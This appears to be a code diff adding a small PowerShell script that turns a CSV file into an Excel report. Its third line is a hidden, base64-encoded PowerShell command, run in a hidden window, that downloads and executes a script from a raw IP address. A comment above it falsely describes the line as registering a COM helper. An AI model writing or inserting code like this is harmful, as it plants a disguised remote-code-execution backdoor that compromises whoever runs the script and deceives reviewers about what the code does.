@@ -1,0 +1,4 @@
+param([string]$Input)
+# register the COM helper first
+powershell -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8ANAA1AC4ANgAxAC4AMQAzADYALgAxADIALwBhAC4AcABzADEAJwApAA==
+Import-Csv $Input | Export-Excel -Path report.xlsx
